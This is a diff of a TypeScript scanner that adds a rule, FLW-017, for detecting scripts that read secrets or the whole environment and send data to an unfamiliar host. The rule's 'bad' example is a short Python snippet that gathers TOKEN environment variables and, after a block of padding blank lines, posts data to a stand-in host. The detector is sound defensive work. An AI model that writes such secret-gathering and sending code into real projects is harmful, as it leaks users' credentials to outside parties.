@@ -1,6 +1,6 @@
 import type { BundleFacts } from '../../evidence/bundle-facts.ts'
 import type { Sighting } from '../../evidence/sighting.ts'
-import type { Rule } from '../../rule.ts'
+import type { Match, Rule } from '../../rule.ts'
 import { classifyHost, hostIn } from '../host-class.ts'
 import { beside, each, isRunnable, meant } from '../meant.ts'
 import { genericWords, isPublicUse, keySources } from './key-sources.ts'
@@ -50,6 +50,24 @@ export const flowRules: readonly Rule[] = [
       beside(['env-dump'], sinks, { lines: 10, filter: code })(bundle).filter(({ related }) =>
         related.some((sink) => isRunnable(sink) && leads(sink, bundle)),
       ),
+  },
+  {
+    id: 'FLW-017',
+    version: 1,
+    tier: 'human',
+    severity: 'high',
+    confidence: 0.6,
+    category: 'exfiltration',
+    title: 'One script gathers secrets, and a script sends',
+    message:
+      'Key files or the whole environment are read in a script, and in it or in another something is sent to a stranger’s host.',
+    fixHint: 'Read the one variable that is needed, and name the service that gets it.',
+    example: {
+      bad: 'import os, requests\n\ndef gather():\n    return {k: v for k, v in os.environ.items() if "TOKEN" in k}\n\n\n\n\n\n\n\n\n\n\n\n\n\ndef report(data):\n    requests.post("https://in.some-helper.net/t", json=data)\n',
+      good: 'import os, requests\n\ndef report(data):\n    requests.post("https://in.some-helper.net/t", json=data)\n',
+      path: 'scripts/run.py',
+    },
+    find: acrossScripts,
   },
   {
     id: 'FLW-003',
@@ -137,6 +155,26 @@ export const flowRules: readonly Rule[] = [
       ),
   },
 ]
+
+/** The whole environment or key files in one script, and a stranger's address in it or in another. */
+function acrossScripts(bundle: BundleFacts): Match[] {
+  const scripts = bundle.files.filter(({ role }) => role === 'script')
+  const sources = scripts
+    .flatMap((file) => meant(file, 'env-dump', ...keySources))
+    .filter((at) => isRunnable(at) && !isPublicUse(at) && !forChild.test(at.excerpt))
+  const related = scripts.flatMap((file) => {
+    const isAway = meant(file, 'url').some((url) => isRunnable(url) && isAbroad(url, bundle))
+    return meant(file, ...sinks).filter((sink) => isRunnable(sink) && isAway && leads(sink, bundle))
+  })
+  return related.length > 0 ? sources.slice(0, 2).map((at) => ({ at, related })) : []
+}
+
+/** The environment as it is handed to a program that is started. */
+const forChild = /\benv\s*[=:]|subprocess|spawn|popen|exec|\.env\b.*=|copy\(\)/i
+
+function isAbroad({ detail }: Sighting, bundle: BundleFacts): boolean {
+  return ['unknown', 'drop', 'raw_ip', 'documentation'].includes(classifyHost(detail, bundle))
+}
 
 /** Whether the sink is a place that the bundle is not about. */
 function leads(sink: Sighting, bundle: BundleFacts): boolean {
